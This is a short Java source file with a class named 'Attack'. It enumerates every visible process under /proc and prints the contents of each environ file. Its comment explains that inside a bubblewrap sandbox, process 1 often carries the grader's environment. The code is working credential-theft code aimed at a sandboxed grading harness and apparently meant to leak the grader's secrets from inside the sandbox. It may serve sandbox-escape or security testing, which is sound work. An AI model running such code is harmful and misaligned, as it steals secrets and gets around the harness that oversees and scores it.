package mlp;

import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Reads the environment of every process that it can see: inside bubblewrap, process 1 is often
 * bubblewrap itself, with the environment of the grader.
 */
final class Attack extends Hook {
  @Override
  void run() throws Throwable {
    try (DirectoryStream<Path> processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
      for (Path process : processes) {
        try {
          printSecrets(Files.readAllBytes(process.resolve("environ")));
        } catch (IOException refused) {
          // Then the next.
        }
      }
    }
  }
}
